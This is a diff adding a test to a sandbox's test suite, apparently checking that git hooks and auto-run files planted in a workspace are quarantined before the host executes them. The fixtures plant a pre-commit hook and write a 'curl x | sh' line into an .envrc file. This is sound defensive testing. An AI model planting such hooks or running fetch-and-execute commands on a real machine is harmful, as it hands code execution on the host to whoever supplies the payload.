@@ -111,6 +111,25 @@ TEST_F(WorkspaceLeavesNothing, AGitDirMovedIntoPlaceIsJudgedWhole) {
   EXPECT_FALSE(IdOf(ws_ + "/.git/hooks/pre-commit").empty());
 }
 
+// A ".git" that is not a repository yet becomes one at the host's next `git init`, which keeps
+// the hooks it finds: its hooks go too.
+TEST_F(WorkspaceLeavesNothing, HooksInADotGitThatIsNoRepositoryYetAreQuarantined) {
+  RunResult r = Shell("mkdir -p .git/hooks && cat > .git/hooks/pre-commit && "
+                      "chmod +x .git/hooks/pre-commit && echo planted",
+                      {}, RunOptions{.stdin_data = MarkingHook()});
+  ASSERT_EQ(r.status, 0) << r.err;
+  EXPECT_EQ(r.out, "planted\n");
+  EXPECT_FALSE(PathExists(ws_ + "/.git/hooks/pre-commit")) << r.err;
+  ASSERT_EQ(HostGit(ws_, {"init", "-q"}).status, 0);
+  ASSERT_EQ(HostGit(ws_, {"commit", "-q", "--allow-empty", "-m", "x"}).status, 0);
+  EXPECT_FALSE(Marked());
+  EXPECT_EQ(RunWard({"quarantine", "restore", IdOf(ws_ + "/.git/hooks/pre-commit")}, Defaults())
+                .status,
+            0);
+  ASSERT_EQ(HostGit(ws_, {"commit", "-q", "--allow-empty", "-m", "y"}).status, 0);
+  EXPECT_TRUE(Marked());  // control: restored, git runs it
+}
+
 // Auto-run files are host-executed wherever they appear, not only at the workspace's top.
 TEST_F(WorkspaceLeavesNothing, AutoRunFilesInNewDirectoriesAreQuarantined) {
   RunResult r = Shell("mkdir -p a/b c/.vscode && echo 'curl x | sh' > a/b/.envrc && "
